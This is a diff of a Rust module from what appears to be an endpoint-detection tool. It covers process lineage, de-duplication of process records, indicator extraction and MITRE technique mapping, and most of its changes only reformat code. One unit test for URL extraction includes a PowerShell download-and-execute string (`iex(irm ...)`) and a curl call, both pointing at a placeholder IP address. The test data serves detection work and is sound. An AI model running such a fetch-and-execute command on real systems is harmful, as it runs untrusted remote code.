@@ -16,9 +16,6 @@ use crate::schema::{Col, common, process as t};
 
 /// Columns of `process` that the functions here read; signals over processes list them as a whole.
 pub const COLUMNS: &[Col] = &[
-    common::ACTION, common::USER, common::USER_DOMAIN, common::LOGON_ID, t::PID, t::PROC_GUID, t::IMAGE, t::IMAGE_NAME,
-    t::CMDLINE, t::ORIG_NAME, t::SHA256, t::SHA1, t::MD5, t::PPID, t::PARENT_GUID, t::PARENT_IMAGE, t::PARENT_NAME,
-    t::PARENT_CMDLINE, t::GPARENT_IMAGE, t::SIGNER, t::SIG_STATUS,
     common::ACTION,
     common::USER,
     common::USER_DOMAIN,
@@ -52,7 +49,6 @@ pub const QUOTE: usize = 300;
 pub fn starts<'a>(rows: View<'a>) -> Vec<Row<'a>> {
     let mut out: Vec<Row<'a>> = Vec::with_capacity(rows.len());
     let mut sources = Vec::new();
-    for row in rows.iter().filter(|r| r.text(common::ACTION) == Some("start")) {
     for row in rows
         .iter()
         .filter(|r| r.text(common::ACTION) == Some("start"))
@@ -62,7 +58,6 @@ pub fn starts<'a>(rows: View<'a>) -> Vec<Row<'a>> {
         }
         out.push(row);
     }
-    if sources.len() > 1 { without_twins(out) } else { out }
     if sources.len() > 1 {
         without_twins(out)
     } else {
@@ -81,7 +76,6 @@ fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
         let key = (row.id(common::HOST), pid, row.id(t::IMAGE_NAME));
         let twin = last.get(&key).and_then(|at| out.get_mut(*at));
         match twin {
-            Some(twin) if row.ts() - twin.ts() <= TWIN_US && twin.id(common::SOURCE) != row.id(common::SOURCE) => {
             Some(twin)
                 if row.ts() - twin.ts() <= TWIN_US
                     && twin.id(common::SOURCE) != row.id(common::SOURCE) =>
@@ -101,7 +95,6 @@ fn without_twins(starts: Vec<Row<'_>>) -> Vec<Row<'_>> {
 
 /// How many of the telling columns a record fills.
 fn richness(row: Row<'_>) -> usize {
-    let telling = [t::CMDLINE, t::PARENT_IMAGE, t::PARENT_CMDLINE, t::PROC_GUID, t::ORIG_NAME, t::SHA256];
     let telling = [
         t::CMDLINE,
         t::PARENT_IMAGE,
@@ -140,7 +133,6 @@ impl<'a> Lineage<'a> {
     /// The start of a row's parent: by its GUID, else the last start of its process id before the row, if that was
     /// the program which the row names as its parent.
     pub fn parent(&self, row: Row<'a>) -> Option<Row<'a>> {
-        if let Some(parent) = self.by_guid.get(&row.id(t::PARENT_GUID)).filter(|p| p.at() != row.at()) {
         if let Some(parent) = self
             .by_guid
             .get(&row.id(t::PARENT_GUID))
@@ -150,7 +142,6 @@ impl<'a> Lineage<'a> {
         }
         let of_pid = self.by_pid.get(&row.int(t::PPID)?)?;
         let before = of_pid.partition_point(|p| p.ts() <= row.ts());
-        let parent = before.checked_sub(1).and_then(|i| of_pid.get(i)).filter(|p| p.at() != row.at())?;
         let parent = before
             .checked_sub(1)
             .and_then(|i| of_pid.get(i))
@@ -181,11 +172,6 @@ pub fn names(row: Row<'_>) -> (String, String) {
     }
 }
 
-/// Whether a program is one of these, by either of its [`names`].
-pub fn is_one_of(row: Row<'_>, set: &[&str]) -> bool {
-    use crate::knowledge::programs::contains;
-    let (image, original) = names(row);
-    contains(set, &image) || (!original.is_empty() && contains(set, &original))
 /// Whether a program is one of these (a sorted set of [`crate::knowledge::programs`]), by either of its [`names`].
 pub fn is_one_of(row: Row<'_>, set: &[&str]) -> bool {
     let image = row.str(t::IMAGE_NAME);
@@ -223,7 +209,6 @@ pub fn quote(text: &str) -> String {
 
 /// What a program was started with, for a sentence: its command line, else its path, else its name.
 pub fn command(row: Row<'_>) -> String {
-    let text = row.text(t::CMDLINE).or_else(|| row.text(t::IMAGE)).unwrap_or(row.str(t::IMAGE_NAME));
     let text = row
         .text(t::CMDLINE)
         .or_else(|| row.text(t::IMAGE))
@@ -234,7 +219,6 @@ pub fn command(row: Row<'_>) -> String {
 /// Indicators of a start: hash and path of a program outside the folders of administrators, URLs of its command line.
 pub fn iocs(row: Row<'_>) -> Vec<Ioc> {
     let mut out = Vec::new();
-    if let Some(path) = row.text(t::IMAGE).filter(|p| !paths::is_protected(p) && base_name(p).len() < p.len()) {
     if let Some(path) = row
         .text(t::IMAGE)
         .filter(|p| !paths::is_protected(p) && base_name(p).len() < p.len())
@@ -273,7 +257,6 @@ pub fn technique_of(program: &str, command: &str) -> Option<&'static str> {
         "bash" | "sh" | "wsl" => "T1059.004",
         "wscript" | "cscript" => {
             let lower = command.to_ascii_lowercase();
-            if lower.contains(".js") || lower.contains("//e:jscript") { "T1059.007" } else { "T1059.005" }
             if lower.contains(".js") || lower.contains("//e:jscript") {
                 "T1059.007"
             } else {
@@ -312,7 +295,6 @@ pub mod testing {
     }
 
     /// The same with process ids.
-    pub fn start_as(sample: &mut Sample, time: &str, child: (Option<i64>, &str), parent: (Option<i64>, &str), line: &str) {
     pub fn start_as(
         sample: &mut Sample,
         time: &str,
@@ -335,7 +317,6 @@ pub mod testing {
     }
 
     /// The hits of one signal on one start.
-    pub fn hits_of(signal: &dyn crate::signals::Signal, image: &str, parent: &str, line: &str) -> Vec<crate::signals::Hit> {
     pub fn hits_of(
         signal: &dyn crate::signals::Signal,
         image: &str,
@@ -354,7 +335,6 @@ mod tests {
 
     #[test]
     fn urls_end_where_their_quotes_end() {
-        let found = urls("iex(irm 'http://192.0.2.1/a'); curl http://192.0.2.1/a https://b.example/x?y=1)");
         let found =
             urls("iex(irm 'http://192.0.2.1/a'); curl http://192.0.2.1/a https://b.example/x?y=1)");
         assert_eq!(
